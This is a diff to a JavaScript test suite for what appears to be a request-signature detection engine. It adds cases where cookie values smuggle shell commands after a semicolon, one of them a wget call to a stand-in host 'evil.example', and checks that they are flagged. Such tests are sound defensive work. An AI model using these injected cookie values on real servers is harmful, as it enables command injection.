@@ -37,6 +37,18 @@ describe('ENG-04 signatures of a request', () => {
       'cookie id sql',
     ],
     [
+      'cookie with a semicolon in its value',
+      exampleExchange({ requestHeaders: [['cookie', 'theme=dark; lang=en;ls -la']] }),
+      'cookie lang command',
+    ],
+    [
+      'cookie with a semicolon and an equal sign in its value',
+      exampleExchange({
+        requestHeaders: [['cookie', 'lang=en;wget http://evil.example/?a=b; theme=dark']],
+      }),
+      'cookie lang command',
+    ],
+    [
       'credentials',
       exampleExchange({
         requestHeaders: [
@@ -185,7 +197,7 @@ describe('ENG-04 signatures of a request', () => {
         ['accept', 'text/html,*/*;q=0.8'],
         ['sec-ch-ua', '"Chromium";v="131", "Not_A Brand";v="24"'],
         ['referer', 'https://shop.example/search?q=a&b=c#top'],
-        ['cookie', '_ga=GA1.2.123.456; theme=dark; consent={"ads":false}'],
+        ['cookie', '_ga=GA1.2.123.456; theme=dark; consent={"ads":false}; Secure; HttpOnly'],
         ['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2ln'],
         ['if-none-match', 'W/"0815"'],
       ],
